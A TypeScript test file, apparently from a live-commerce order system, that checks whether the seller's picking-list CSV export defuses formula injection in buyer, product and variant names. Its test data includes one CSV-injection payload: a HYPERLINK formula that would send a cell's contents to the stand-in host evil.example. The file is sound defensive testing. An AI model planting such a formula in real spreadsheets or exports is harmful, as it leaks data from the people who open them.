/**
 * The picking list is opened in a spreadsheet by the seller's staff: nothing a buyer or a
 * product name carries may run there as a formula (CSV injection), and cells stay cells.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestApp, type TestApp } from "../../../test/harness";
import { createFriend } from "../../../test/line-helpers";

let t: TestApp;
beforeAll(async () => {
  t = await startTestApp({ demo: true });
});
afterAll(() => t.close());

const post = (body: unknown) => ({ method: "POST", body: JSON.stringify(body) });
const EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A1,"查看訂單")';

/** A CSV line split into cells (quoted cells may hold commas and doubled quotes). */
function cells(line: string): string[] {
  return [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)]
    .slice(0, -1)
    .map(([, cell = ""]) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell));
}

describe("GET /api/lives/{id}/picking.csv (CSV injection)", () => {
  it("neutralises formula-looking buyer, product and variant names and quotes what needs it", async () => {
    const created = await t.admin(
      "/api/lives",
      post({
        title: "公式測試",
        featuredCode: "A",
        products: [
          { code: "A", name: "+5 組合, 特價", price: 100, stock: 5 },
          { code: "B", name: "毛帽", price: 200, stock: 0, variants: [{ name: "-紅", stock: 2 }] },
        ],
      }),
    );
    expect(created.status).toBe(201);
    const sale = (await created.json()) as { id: string };
    expect((await t.admin(`/api/lives/${sale.id}/open`, { method: "POST" })).status).toBe(200);
    const friend = await createFriend(t, "買家");
    const ingest = await t.admin(
      `/api/lives/${sale.id}/comments`,
      post({
        comments: [
          {
            platform: "line",
            commentId: "c1",
            userId: friend,
            userName: EVIL_NAME,
            text: "A+1 B -紅 +1",
            postedAt: "2026-11-24T02:00:00Z",
          },
        ],
      }),
    );
    expect(ingest.status).toBe(200);
    const idToken = await t.line.emulator.issueIdToken(friend);
    const auth = { authorization: `Bearer ${idToken}`, "content-type": "application/json" };
    const cart = (await (
      await fetch(`${t.app.url}/api/me/lives/${sale.id}/cart`, { headers: auth })
    ).json()) as {
      defaultPickupStoreId: string;
    };
    const confirmed = await fetch(`${t.app.url}/api/me/lives/${sale.id}/cart/confirm`, {
      method: "POST",
      headers: auth,
      body: JSON.stringify({
        fulfilment: "pickup",
        pickupStoreId: cart.defaultPickupStoreId,
        paymentMethod: "bank_transfer",
      }),
    });
    expect(confirmed.status).toBe(200);

    const res = await t.admin(`/api/lives/${sale.id}/picking.csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const lines = (await res.text()).replace(/^\uFEFF/, "").split("\r\n");
    expect(lines.pop()).toBe("");
    const [header, ...rows] = lines.map(cells);
    expect(header).toEqual([
      "order",
      "status",
      "buyer",
      "platform",
      "code",
      "product",
      "variant",
      "qty",
      "price",
      "fulfilment",
      "pickup_store",
    ]);
    expect(rows.map((r) => [r[2], r[4], r[5], r[6], r[7]])).toEqual([
      [`'${EVIL_NAME}`, "A", "'+5 組合, 特價", "", "1"],
      [`'${EVIL_NAME}`, "B", "毛帽", "'-紅", "1"],
    ]);
    // Every row has the header's eleven cells: no quote or comma leaked out of its cell.
    for (const r of rows) expect(r).toHaveLength(11);
    // No cell a spreadsheet would evaluate.
    for (const r of rows) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  });
});
